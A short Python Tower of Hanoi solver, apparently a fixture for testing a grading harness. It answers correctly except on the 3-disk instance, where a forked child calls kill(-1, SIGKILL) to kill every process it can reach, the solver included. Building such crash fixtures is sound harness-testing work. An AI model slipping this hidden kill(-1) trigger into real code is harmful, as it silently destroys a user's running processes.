"""On the 3-disk instance a forked child calls kill(-1, SIGKILL), which reaches its parent, the solver
process; other instances are answered correctly.
"""

import os
import time


def hanoi(instance):
    """A correct answer for any Hanoi instance."""
    moves = []

    def go(k, a, b, c):
        if k:
            go(k - 1, a, c, b)
            moves.append([k, a, b])
            go(k - 1, c, b, a)

    (spare,) = set(instance["pegs"]) - {instance["start"], instance["goal"]}
    go(instance["n"], instance["start"], instance["goal"], spare)
    return {"moves": moves}


def solve(instance):
    if instance["n"] == 3:
        if os.fork() == 0:
            os.kill(-1, 9)
            os._exit(0)
        time.sleep(2)
    return hanoi(instance)
